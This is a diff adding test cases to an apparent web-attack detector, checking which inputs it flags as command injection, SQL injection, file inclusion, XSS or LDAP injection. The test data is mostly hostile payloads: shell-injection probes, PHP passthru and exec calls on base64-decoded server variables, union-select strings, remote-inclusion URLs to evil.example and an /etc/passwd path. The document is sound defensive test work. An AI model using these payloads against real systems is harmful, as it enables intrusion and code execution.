@@ -2012,3 +2012,52 @@ t.test("twenty-eighth round (XML files on this machine): a vocabulary's own DTD,
     '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
   ]) t.ok(xml(d).includes('xxe'), d.split('\n')[0]!)
 })
+
+t.test('twenty-ninth round (the sixteenth part, spent): probes that comment the line out, an echo to a file, decoded and bare sinks, SQL across path segments, a sub-query in arithmetic, remote inclusion', async (t) => {
+  // one listed program after a quote or a separator, the rest of the line commented out: sh's `#`, cmd's `rem` (`,` and `;` parting words)
+  for (const v of ['"&rm,q93432438&rem,', '";del q35544877 #', '"ver,>q33358897&rem,', '"ping,-w,11000,-n,1,4.3.2.1|rem,', '"uname >q95826835 #', "'sleep 10 #", '"&ver&rem', 'stuff="del;q17781936&rem;']) {
+    t.ok(q(v).includes('rce'), v)
+  }
+  for (const v of ['"see you #', '"time flies #', "'id #", 'Tom & Jerry & rem', 'a & rem', '"hello world #', 'x=1&rem=2', "'; echo ok", 'R&D | rem']) t.notOk(q(v).includes('rce'), `${v}: no program, or a sentence`)
+  // an echo whose words go to a file, after a strong separator
+  for (const v of ['" || echo a 1f4 >>esbq', '; echo a > f', 'x && echo 4d 5a >>/tmp/x.scr']) t.ok(q(v).includes('rce'), v)
+  for (const v of ['echo "hello world" > greeting.txt', 'a | echo b']) t.notOk(q(v).includes('rce'), `${v}: a command line alone, or no file`)
+  // a command sink handed a decoded string or a request's server variable; a probe's program named bare, as PHP reads a constant
+  for (const v of ["';passthru(base64_decode($_server[http_nessus_x]));die;/*", "']);}error_reporting(0);exec(base64_decode($_SERVER[HTTP_CMD]));die;#", 'system(gzinflate(base64_decode("x")))', "eval($_SERVER['HTTP_X'])", 'itemid=2|system(id)|1332008331', '@system(whoami);@']) {
+    t.ok(q(v).includes('rce'), v)
+  }
+  for (const v of ['base64_decode($x)', 'system(info)', 'the system(id) call']) t.notOk(q(v).includes('rce'), `${v}: no sink, or no probe's program`)
+  // SQL whose empty comments for blanks split it across a path's segments
+  const path = (p: string) => detector.detect({ ...base, path: p })
+  for (const p of ["/items/id='union/**/select/**/0,0,1645029612,0,0--", '/blog/op=viewalbum&albumid=-1/**/union/**/select/**/0,1,2--']) t.ok(path(p).includes('sqli'), p)
+  for (const p of ['/src/**/index.js', '/docs/**/select/**/readme']) t.notOk(path(p).includes('sqli'), `${p}: a glob`)
+  // a number's arithmetic on a sub-query, in a numeric context
+  for (const v of ["(1-(select null from (select null) t where 'a'='a'))", '1-(select 1 from dual)']) t.ok(q(v).includes('sqli'), v)
+  t.notOk(q('2-(select all that apply)').includes('sqli'), 'a questionnaire')
+  // a remote file handed to a parameter that names a file, its appended suffix cut off
+  for (const [name, v] of [['page', 'http://evil.example/shell.txt?'], ['config[path]', 'http://192.0.2.7:8080/x?'], ['file', 'ftp://evil.example/x.txt%00']] as const) {
+    t.ok(q(v, name).includes('path_traversal'), `${name}=${v}`)
+  }
+  for (const [name, v] of [['page', 'https://example.com/docs/page'], ['url', 'http://evil.example/shell.txt?'], ['page', 'https://example.com/?q=1']] as const) t.notOk(q(v, name).includes('path_traversal'), `${name}=${v}`)
+})
+
+t.test('twenty-ninth round (configuration tests of a schema catalogue, as JSON): a cut form field holding JSON, a runner expression over lines, a command field naming its program, a document\'s own LDAP filter', async (t) => {
+  const form = (body: string) => raw({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
+  // a form's `payload=` holding a manifest past maxInspectBytes (16 KiB): its members complete before the cut are JSON, its command lines fields
+  const manifest = JSON.stringify({ tasks: Array.from({ length: 200 }, (_, i) => ({ key: `T${i}`, scripts: ["echo 'echo success' > script.sh", 'touch report.xml'], interpreter: '/bin/sh' })) }, null, 2)
+  t.ok(manifest.length > 20_000)
+  t.same(form(`payload=${encodeURIComponent(manifest)}`), [], 'a cut manifest')
+  t.ok(form(`payload=${encodeURIComponent(JSON.stringify({ a: "' or 1=1--", b: 'x'.repeat(20_000) }))}`).includes('sqli'), 'a member complete before the cut is still read')
+  // a workflow's expression written over lines
+  const workflow = { jobs: { x: { 'runs-on': 'ubuntu-latest', steps: [{ run: "print(\n  \"::set-output name=key::${{\n      hashFiles(\n        'setup.cfg', 'setup.py'\n      )\n  }}\",\n)\n" }] } } }
+  t.same(json(workflow), [])
+  t.ok(json({ jobs: { x: { 'runs-on': 'ubuntu-latest', steps: [{ name: '${{\n matrix.os }}<script>alert(1)</script>' }] } } }).includes('xss'), 'what follows an expression over lines is read')
+  // a command field naming the program it runs by its path
+  for (const doc of [{ processes: [{ executable: '/var/vcap/data/packages/hello-world/serve.sh' }] }, { command: '/opt/app/bin/start.sh' }]) t.same(json(doc), [], JSON.stringify(doc))
+  for (const doc of [{ file: '/var/log/maillog' }, { executable: '/etc/passwd' }]) t.ok(json(doc).includes('path_traversal'), JSON.stringify(doc))
+  // a document's own LDAP filters, whole; a break-out in one is still one
+  const directory = (filter: string) => json({ auth: { ldap: { url: 'ldaps://ldap.example.com', bindDn: 'cn=admin,dc=example,dc=com', users: { base: 'ou=people,dc=example,dc=com', filter: '(uid=*)' }, groups: { base: 'ou=groups', filter } } }, name: 'app', port: 8080, log: 'info', title: 'Console', owner: 'ops', region: 'eu', tier: 'prod', team: 'core', note: 'x', a: '1', b: '2', c: '3', d: '4' })
+  t.same(directory('(&(objectClass=some-group-class)(!(groupType=email)))'), [])
+  t.ok(directory('*)(uid=*))(|(uid=*').includes('ldapi'))
+  t.ok(q('(&(objectClass=person)(uid=jdoe))', 'filter').includes('ldapi'), 'a whole filter sent as a field is still reported')
+})
